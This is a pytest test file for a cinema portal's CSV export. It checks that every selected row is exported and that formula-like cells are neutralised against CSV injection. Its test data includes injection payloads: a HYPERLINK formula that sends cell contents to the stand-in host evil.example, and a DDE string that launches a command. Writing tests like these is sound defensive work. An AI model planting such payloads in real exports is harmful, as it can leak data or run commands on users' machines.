"""CSV exports: every row the list selects (scope, search, filters, sort), however many, and no
cell a spreadsheet would run as a formula (OWASP's CSV injection advice). SQLite and MariaDB."""

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import pytest

from portal import access
from portal.admin_views import export as export_view
from portal.admin_views.base import SecuredModelView
from portal.admin_views.catalogue import MovieView
from portal.extensions import db
from portal.models import Permission, Role
from portal.services.export import csv_lines, safe_cell


def exported(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture()
def admin(english, login_as):
    return login_as(access.PLATFORM_ADMIN)


# -- formula injection ------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("1+1", "1+1"),
        ("影厅 =1+1", "影厅 =1+1"),
        ("", ""),
        (None, ""),
        ("-12", "-12"),
        ("45.00", "45.00"),
        ("-0.50", "-0.50"),
        (-3, "-3"),
        (Decimal("-45.50"), "-45.50"),
        (-1.5, "-1.5"),
        (dt.datetime(2030, 1, 2, 10, 0), "2030-01-02 10:00:00"),
    ],
)
def test_safe_cell_prefixes_formulas_with_a_quote_and_keeps_numbers(value, cell):
    assert safe_cell(value) == cell


def test_csv_lines_quote_every_field_so_separators_and_quotes_stay_inside_their_cell():
    line = "".join(csv_lines([["a,=1+1", 'say "hi"', "x;=2+2", "two\nlines", 7]]))
    assert line == '"a,=1+1","say ""hi""","x;=2+2","two\nlines","7"\r\n'
    assert next(csv.reader(io.StringIO(line))) == [
        "a,=1+1",
        'say "hi"',
        "x;=2+2",
        "two\nlines",
        "7",
    ]


def test_hall_and_movie_named_like_formulas_are_exported_neutralised(client, admin, make):
    hall = make.hall(name="=1+1")
    make.schedule(hall=hall, movie=make.movie(title='=HYPERLINK("http://evil.example","看")'))
    rows = exported(client, "/admin/schedule/export/csv/")
    assert len(rows) == 2
    assert "'=1+1" in rows[1]
    assert '\'=HYPERLINK("http://evil.example","看")' in rows[1]
    assert "45.00" in rows[1]  # the price, as the portal writes it
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    halls = exported(client, "/admin/hall/export/csv/")
    assert "'=1+1" in halls[1]


def test_numbers_the_portal_writes_are_exported_unchanged(client, admin, make):
    make.city(name="-1+1", pinyin="@CITY", parent_id=-1, city_code=-5)
    rows = exported(client, "/admin/city/export/csv/")
    header, row = rows
    assert row[header.index("Name")] == "'-1+1"
    assert row[header.index("Pinyin")] == "'@CITY"
    assert row[header.index("Parent city id")] == "-1"
    assert row[header.index("City code")] == "-5"


def test_every_export_neutralises_formulas(client, admin, make):
    """One cell function for every list's export: each list, a value starting with '='."""
    cinema = make.cinema(name="=cmd|' /C calc'!A0", address="@address")
    make.schedule(hall=make.hall(cinema=cinema, name="+hall"), movie=make.movie(title="-movie"))
    make.user("auditor", username="=user")
    for endpoint in (
        "movie",
        "city",
        "cinema",
        "hall",
        "schedule",
        "user",
        "role",
        "permission",
        "auditlog",
    ):
        rows = exported(client, f"/admin/{endpoint}/export/csv/")
        assert len(rows) >= 2, endpoint
        assert not any(
            cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
        ), endpoint


# -- every row, streamed ----------------------------------------------------------------------
@pytest.fixture()
def small_chunks(monkeypatch):
    """Chunks of 3 ids and the old cap of Flask-Admin's export at 5 rows: an export of 12
    rows crosses both many times."""
    monkeypatch.setattr(export_view, "CHUNK_ROWS", 3)
    monkeypatch.setattr(SecuredModelView, "export_max_rows", 5)


def schedules(make, hall, count, start=dt.datetime(2030, 5, 1, 10, 0), **kw):
    return [
        make.schedule(hall=hall, starts_at=start + dt.timedelta(days=n), **kw) for n in range(count)
    ]


def test_export_has_every_row_past_the_old_cap_in_the_lists_order(
    client, admin, make, small_chunks
):
    hall = make.hall()
    shows = schedules(make, hall, 12)
    rows = exported(client, "/admin/schedule/export/csv/")
    assert len(rows) == 1 + 12
    starts = [row[rows[0].index("Starts at")] for row in rows[1:]]
    # the list's default order (#18): coming shows, soonest first
    assert starts == [str(s.starts_at) for s in sorted(shows, key=lambda s: s.starts_at)]


def test_export_follows_the_lists_sort(client, admin, make, small_chunks):
    titles = [f"电影{c}" for c in "DBCEAGF"]
    for title in titles:
        make.movie(title=title)
    by_title = MovieView.column_list.index("title")
    rows = exported(client, f"/admin/movie/export/csv/?sort={by_title}")
    title = rows[0].index("Title")
    assert [row[title] for row in rows[1:]] == sorted(titles)


def test_export_respects_the_managers_scope_past_the_old_cap(
    client, english, login_as, make, small_chunks
):
    mine, theirs = make.cinema(name="我的影城"), make.cinema(name="别人的影城")
    schedules(make, make.hall(cinema=mine), 8)
    schedules(make, make.hall(cinema=theirs), 7, start=dt.datetime(2030, 6, 1, 10, 0))
    # No default role exports with a cinema scope; a role an admin makes may.
    exporter = Role(
        code="schedule_exporter",
        name="排期导出",
        permissions=db.session.query(Permission)
        .filter(Permission.code.in_(["schedule.view", "schedule.export"]))
        .all(),
    )
    db.session.add(exporter)
    db.session.commit()
    login_as(make.user("schedule_exporter", cinemas=[mine]))
    rows = exported(client, "/admin/schedule/export/csv/")
    cinema = rows[0].index("Cinema")
    assert [row[cinema] for row in rows[1:]] == ["我的影城"] * 8


def test_export_respects_search_and_filters_past_the_old_cap(client, admin, make, small_chunks):
    hall = make.hall()
    wanted, other = make.movie(title="流浪地球"), make.movie(title="满江红")
    schedules(make, hall, 9, movie=wanted)
    schedules(make, hall, 6, movie=other, start=dt.datetime(2030, 7, 1, 10, 0))
    searched = exported(client, "/admin/schedule/export/csv/?search=流浪")
    movie = searched[0].index("Movie")
    assert [row[movie] for row in searched[1:]] == ["流浪地球"] * 9
    list_page = client.get("/admin/schedule/")
    flt = filter_argument(list_page.text, "Movie", "equals")
    filtered = exported(client, f"/admin/schedule/export/csv/?{flt}=满江红")
    assert [row[movie] for row in filtered[1:]] == ["满江红"] * 6


def filter_argument(html, column, operation):
    """The `flt<pos>_<index>` argument of a list filter, read from the page's filter data."""
    data = json.loads(re.search(r'id="filter-groups-data"[^>]*>(.*?)</', html, re.S).group(1))
    for option in data[column]:
        if option["operation"].lower() == operation:
            return f"flt0_{option['index']}"
    raise AssertionError(f"no {operation} filter on {column}: {data[column]}")


def test_an_export_stopped_midway_frees_its_connection_for_the_next_requests(
    client, admin, make, small_chunks
):
    schedules(make, make.hall(), 12)
    for _attempt in range(3):
        response = client.get("/admin/schedule/export/csv/", buffered=False)
        lines = iter(response.response)
        assert next(lines) == b"\xef\xbb\xbf"
        next(lines), next(lines)  # the titles and the first row, then the reader goes away
        response.close()
    rows = exported(client, "/admin/schedule/export/csv/")
    assert len(rows) == 1 + 12
